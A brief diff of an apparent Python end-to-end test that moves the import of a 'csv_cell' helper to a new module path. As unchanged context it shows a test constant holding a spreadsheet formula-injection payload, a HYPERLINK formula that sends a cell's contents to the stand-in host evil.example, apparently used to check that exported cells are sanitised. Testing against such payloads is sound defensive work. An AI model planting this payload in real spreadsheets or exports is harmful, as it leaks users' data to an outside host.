@@ -9,7 +9,7 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from indsec.report.cells import csv_cell
+from indsec.cells import csv_cell
 from tests.e2e.conftest import Workspace
 
 EVIL_TABLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
